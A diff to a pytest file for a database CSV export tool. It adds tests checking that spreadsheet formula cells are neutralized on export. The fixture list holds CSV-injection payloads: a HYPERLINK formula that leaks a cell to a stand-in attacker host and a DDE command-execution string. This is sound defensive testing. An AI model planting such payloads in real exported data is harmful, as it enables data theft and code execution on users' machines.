@@ -50,11 +50,26 @@ def export_db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathF
         yield url
 
 
+# Names a spreadsheet would run as formulas, spread through the table: every export below writes
+# them neutralized (a leading '), so the byte-for-byte comparisons cover neutralized cells too.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    '+cmd|" /C calc"!A0',
+    "@SUM(1+1)",
+    "-1+2",
+    "\tx",
+]
+
+
 def seeded(url: str, rows: int) -> None:
     engine = make_engine(url)
     migrate(engine)
     with Session(engine) as session:
         seed_orders(session, rows, now=NOW)
+        ids = list(session.scalars(select(Order.id).order_by(Order.id)))
+        for i, order_id in enumerate(ids[:: max(1, len(ids) // 50)]):
+            session.get(Order, order_id).customer = FORMULAS[i % len(FORMULAS)]
+        session.commit()
     engine.dispose()
 
 
@@ -97,8 +112,9 @@ def interrupt_when_growing(url: str, output: Path, sig: signal.Signals, *args: s
 
 
 def ids_of(csv_bytes: bytes) -> list[int]:
-    rows = list(csv.reader(io.StringIO(csv_bytes.decode())))
+    rows = list(csv.reader(io.StringIO(csv_bytes.decode(), newline="")))
     assert rows[0] == ["id", "customer", "amount", "status", "created_at"]
+    assert not any(row[1].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
     return [int(row[0]) for row in rows[1:]]
 
 
@@ -106,6 +122,8 @@ def test_interrupted_twice_and_resumed_equals_an_uninterrupted_export(export_db:
     full, err = export_done(export_db, "--batch-size", "50")
     assert f"exported {ROWS:,} rows" in err
     assert len(ids_of(full)) == ROWS
+    customers = [row[1] for row in csv.reader(io.StringIO(full.decode(), newline=""))]
+    assert customers.count("'" + FORMULAS[0]) >= 10  # neutralized, not dropped
 
     part = tmp_path / "orders.csv"
     first, cursor = interrupt_when_growing(export_db, part, signal.SIGINT)
@@ -194,17 +212,11 @@ def test_consistent_export_ignores_writes_made_while_it_runs(fresh_db: tuple[str
 
 
 def test_plain_export_may_see_writes_made_while_it_runs(fresh_db: tuple[str, str]) -> None:
-    """Documents what an export without --consistent does. PostgreSQL (READ COMMITTED) and
-    SQLite read each batch afresh: rows deleted ahead of the export are gone, rows inserted
-    ahead of it appear, every row that existed throughout still appears exactly once. MariaDB
-    gives the same answer as --consistent: the export's session runs one transaction, and
-    InnoDB's default REPEATABLE READ keeps its first snapshot until it ends."""
-    kind, url = fresh_db
+    """Documents what an export without --consistent does: each batch is read in a short
+    transaction of its own (so a slow download holds nothing between batches), on every engine,
+    MariaDB included. Rows deleted ahead of the export are gone, rows inserted ahead of it
+    appear, every row that existed throughout appears exactly once."""
+    _, url = fresh_db
     before, exported, deleted, inserted = writes_during_export(url)
     assert len(exported) == len(set(exported))
-    if kind == "mysql":
-        assert exported == before
-    else:
-        assert exported == [i for i in before if i not in deleted] + sorted(
-            inserted
-        )  # each one older than the last
+    assert exported == [i for i in before if i not in deleted] + sorted(inserted)  # each older than the last
